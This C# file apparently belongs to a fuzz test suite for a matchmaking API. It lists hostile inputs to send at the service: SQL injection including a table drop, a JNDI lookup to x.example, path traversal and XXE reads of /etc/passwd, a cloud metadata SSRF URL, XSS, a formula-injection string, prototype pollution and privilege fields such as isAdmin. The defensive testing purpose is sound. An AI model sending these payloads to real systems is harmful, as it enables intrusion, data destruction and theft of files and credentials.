using System.Text.Json.Nodes;

namespace Matchmaking.EndToEnd.Tests.Fuzz;

/// <summary>What people who attack an API send, and what careless programs do.</summary>
internal static class HostileValues
{
    /// <summary>Texts for addresses, queries, headers and fields.</summary>
    public static readonly string[] Texts =
    [
        "", " ", "null", "undefined", "0", "-1", "1e999", "9223372036854775808", "NaN", "true", "[]", "{}", "*", "%", "_", "\\", "'", "\"", "`", ";", "--",
        "' or '1'='1", "'; drop table demand; --", "1); select pg_sleep(9); --", "' union select password_hash from account --", "$1", "@Only", "{0}", "${jndi:ldap://x.example/a}", "{{7*7}}", "%s%n%x",
        "../../../../etc/passwd", "..%2f..%2fappsettings.json", "....//....//", "/etc/shadow", "C:\\windows\\win.ini", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data", "gopher://127.0.0.1:5432/",
        "<script>alert(1)</script>", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", "=cmd|' /C calc'!A0", "\u202Eoperator", "ﬀ", "İ", "ß", "𠮷", "👩‍🔬", "锟斤拷", "\uFEFF", "\u0001", "\u200B", "　", "a\tb",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "a@a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.", "((((((((((((((((((((a", new('9', 400), new('长', 3000), "2026-02-30", "9999-12-31T23:59:59Z", "0001-01-01",
        "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "eyJhbGciOiJub25lIn0.e30.",
    ];

    /// <summary>JSON that is no JSON, or more of it than anybody should send.</summary>
    public static readonly string[] Bodies =
    [
        "", "{", "[", "null", "true", "\"", "{\"a\":", "{\"a\":1,\"a\":2}", "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]", "{\"__proto__\":{\"role\":\"operator\"}}", "1e999", "{\"\\ud800\":1}",
        "\uFEFF{}", "name=x&role=operator", "<xml/>", string.Concat(Enumerable.Repeat("{\"a\":", 5000)), $"{{\"{new string('k', 9000)}\":1}}", $"[{string.Join(',', Enumerable.Repeat("1", 20_000))}]",
    ];

    /// <summary>Fields that only the server sets, or another organisation's.</summary>
    public static readonly (string Name, JsonNode Value)[] Assigned =
    [
        ("id", "00000000-0000-0000-0000-000000000001"), ("status", "published"), ("revision", 99), ("role", "operator"), ("roles", new JsonArray("operator")), ("isAdmin", true), ("org", "11330000YY000001XR"),
        ("score", 100), ("approvedAt", "2026-01-01T00:00:00Z"), ("secret", "x"), ("passwordHash", "x"), ("createdAt", "2000-01-01T00:00:00Z"), ("recordedBy", "somebody"), ("$type", "System.IO.FileInfo"),
    ];
}
